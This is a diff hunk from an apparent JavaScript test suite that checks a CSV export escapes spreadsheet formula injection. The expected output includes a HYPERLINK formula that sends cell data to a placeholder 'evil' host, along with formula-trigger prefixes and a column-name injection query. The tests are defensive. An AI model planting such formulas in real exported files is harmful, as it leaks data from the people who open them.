@@ -192,7 +192,7 @@ describe('CSV', () => {
     expect(table.split('\n')).toEqual([
       'number,amount,text',
       `"'=HYPERLINK(""http://evil/?""&A1)",-5,-5`,
-      ...["'+1", "'-1", "'@x", "'\t=1", "'＝1", 'a=1', "'=1"].map((cell) => `${cell},-5,-5`),
+      ...["'+1", "'-1", "'@x", "'\t'=1", "'＝1", 'a=1', "'=1"].map((cell) => `${cell},-5,-5`),
     ])
     // Whoever asks names the columns, and may give the table to somebody else.
     const named = await (await get('/records/invoice?select==1:id&id=eq.1', CSV)).text()
